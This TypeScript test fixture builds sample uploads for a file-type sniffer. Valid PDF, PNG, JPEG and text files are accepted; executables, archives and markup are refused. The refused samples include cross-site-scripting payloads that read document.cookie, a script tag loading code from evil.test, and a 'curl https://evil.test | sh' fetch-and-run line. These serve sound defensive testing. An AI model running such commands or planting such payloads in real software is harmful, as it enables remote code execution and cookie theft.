// Small files of every kind an upload test needs, made byte for byte here (not by the code under
// test), each with the type a sniffer must find and its SHA-256 written out literally.

/** A one-page PDF (header, catalog, pages, trailer). */
const PDF = Buffer.from(
  '%PDF-1.4\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n2 0 obj\n<< /Type /Pages /Kids [3 0 R] /Count 1 >>\nendobj\n' +
    '3 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n',
  'latin1',
);

/** A 1×1 PNG. */
const PNG = Buffer.from(
  '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da63f8cfc0f01f0005000201e2b2b4c80000000049454e44ae426082',
  'hex',
);

/** A JPEG's start of image, JFIF header and end of image. */
const JPEG = Buffer.from('ffd8ffe000104a46494600010100000100010000ffd9', 'hex');

/** UTF-8 text with an accent, a tab, CR LF, and a `<` that starts no tag. */
const TEXT = Buffer.from('Blood pressure 120/80\tstable\r\nDosage <5 mg, réévaluer dans 2 semaines\n', 'utf8');

export interface SampleFile {
  bytes: Buffer;
  /** What sniffing must find. */
  type: 'application/pdf' | 'image/png' | 'image/jpeg' | 'text/plain';
  sha256: string;
}

export const ACCEPTED: Record<'pdf' | 'png' | 'jpeg' | 'text', SampleFile> = {
  pdf: { bytes: PDF, type: 'application/pdf', sha256: 'a6946076beaeb23e666cc3e268cac0b34c2c281d1497aaf7952609d31043199f' },
  png: { bytes: PNG, type: 'image/png', sha256: '3654a8c2ee61e3e5a813577fbcbe8a7d100762e0307ec8572192042560dc3d20' },
  jpeg: { bytes: JPEG, type: 'image/jpeg', sha256: 'd20f6ffd523b78a86cd2f916fa34af5d1918d75f7b142237c752ad6b254213ab' },
  text: { bytes: TEXT, type: 'text/plain', sha256: '1e4fd79c5f1be00cf38743932ca8bbc68fedce4af168d8e489515c9f2cfa91aa' },
};

/** Files that must be refused whatever they are called, and what the refusal says they are. */
export const REFUSED: Record<string, { bytes: Buffer; is: string }> = {
  'an ELF executable': {
    bytes: Buffer.concat([Buffer.from('7f454c4602010100000000000000000002003e00', 'hex'), Buffer.alloc(100)]),
    is: 'is application/x-elf',
  },
  'a Windows executable': {
    bytes: Buffer.concat([Buffer.from('MZ'), Buffer.alloc(62), Buffer.from('This program cannot be run in DOS mode')]),
    is: 'is application/x-msdownload',
  },
  'a zip archive': { bytes: Buffer.from('504b03041400000000000000000000000000000000000000000000000000', 'hex'), is: 'is application/zip' },
  'a GIF image': { bytes: Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;', 'latin1'), is: 'is image/gif' },
  'an HTML page': {
    bytes: Buffer.from('<!DOCTYPE html>\n<html><body><script>alert(document.cookie)</script></body></html>\n'),
    is: 'is markup (HTML, SVG or XML)',
  },
  'an HTML page after blank lines': { bytes: Buffer.from('\n\n   <html><script>alert(1)</script></html>'), is: 'is markup (HTML, SVG or XML)' },
  'text with a script further in': {
    bytes: Buffer.from('Lab results attached.\nSee below.\n<script src="https://evil.test/x.js"></script>\n'),
    is: 'is markup (HTML, SVG or XML)',
  },
  'an SVG image': { bytes: Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><circle r="5"/></svg>'), is: 'is markup (HTML, SVG or XML)' },
  'an SVG image with an XML declaration': { bytes: Buffer.from('<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"/>'), is: 'is application/xml' },
  'a shell script': { bytes: Buffer.from('#!/bin/sh\ncurl https://evil.test | sh\n'), is: 'is a script' },
  'text with a NUL byte': { bytes: Buffer.from('name\u0000value\n'), is: 'holds control characters' },
  'text with an escape sequence': { bytes: Buffer.from('\u001b[2Jcleared\n'), is: 'holds control characters' },
  'Latin-1 text': { bytes: Buffer.from('r\u00e9sum\u00e9\n', 'latin1'), is: 'is not UTF-8 text' },
  'UTF-16 text': { bytes: Buffer.from('notes\n', 'utf16le'), is: 'holds control characters' },
  'text cut inside a character': { bytes: Buffer.from([...Buffer.from('caf'), 0xc3]), is: 'is not UTF-8 text' },
};
